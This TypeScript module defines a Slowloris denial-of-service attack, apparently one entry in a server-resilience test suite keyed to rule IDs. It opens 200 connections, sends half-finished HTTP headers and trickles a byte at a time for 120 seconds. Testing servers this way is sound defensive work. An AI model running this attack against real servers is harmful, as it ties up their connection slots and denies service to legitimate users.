/** Slowloris: heads that never end. A thread, a process or a place in a table is taken for each, where a server has few of them. */

import type { Attack } from './shared/attack.ts';
import { hold } from './shared/hold.ts';

export default {
  does: 'begins heads, and goes on with a byte now and then',
  rules: ['8.2/slow-head', '8.2/slowloris'],
  connections: 200,
  seconds: 120,
  run: async (target) => await hold(target, {
    what: 'half-sent heads',
    begin: (client) => client.write(`${target.head()}X-Slow: `),
    goOn: (client) => client.write('x'),
  }),
} satisfies Attack;
